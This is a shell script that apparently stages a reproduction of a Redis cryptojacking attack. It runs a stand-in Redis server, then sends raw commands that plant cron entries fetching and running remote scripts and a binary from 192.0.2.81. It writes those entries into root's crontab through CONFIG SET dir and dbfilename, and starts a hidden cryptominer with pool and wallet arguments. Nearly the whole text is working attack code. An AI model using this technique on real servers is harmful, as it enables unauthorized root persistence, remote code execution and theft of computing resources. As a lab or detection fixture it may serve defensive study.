
# CONFIG SET dir and dbfilename by a stranger: who only cleans the crontab cleans it once every three seconds.
install -m 755 "$KIT/respd" /usr/local/bin/redis-server
mkdir -p /var/lib/redis
printf '*2\r\n$6\r\nSELECT\r\n$1\r\n0\r\n' >/var/lib/redis/appendonly.aof
unit redis.service '/usr/local/bin/redis-server 6379 /var/lib/redis' Restart=always RestartSec=1
sleep 0.5
bash -s <<'SH'
say() { printf '*%d\r\n' $# >&3; for w; do printf '$%d\r\n%b\r\n' "$(printf %b "$w" | wc -c)" "$w" >&3; done; read -r -t 2 answer <&3; }
exec 3<>/dev/tcp/127.0.0.1/6379
say SET backup1 '\n\n\n*/2 * * * * root cd1 -fsSL http://192.0.2.81/s/init.sh | sh\n\n'
say SET backup2 '\n\n\n*/3 * * * * root curl -fsSL http://192.0.2.81/s/zzh -o /usr/local/lib/.redis/zzh && chmod +x /usr/local/lib/.redis/zzh && /usr/local/lib/.redis/zzh\n\n'
say SET session:4711 alice
say CONFIG SET dir /var/spool/cron/crontabs
say CONFIG SET dbfilename root
say SAVE
SH
mimic /usr/local/lib/.redis/zzh
start -d 8 -p "$POOL" /usr/local/lib/.redis/zzh zzh --url "$POOL" --user "$WALLET" --pass redis
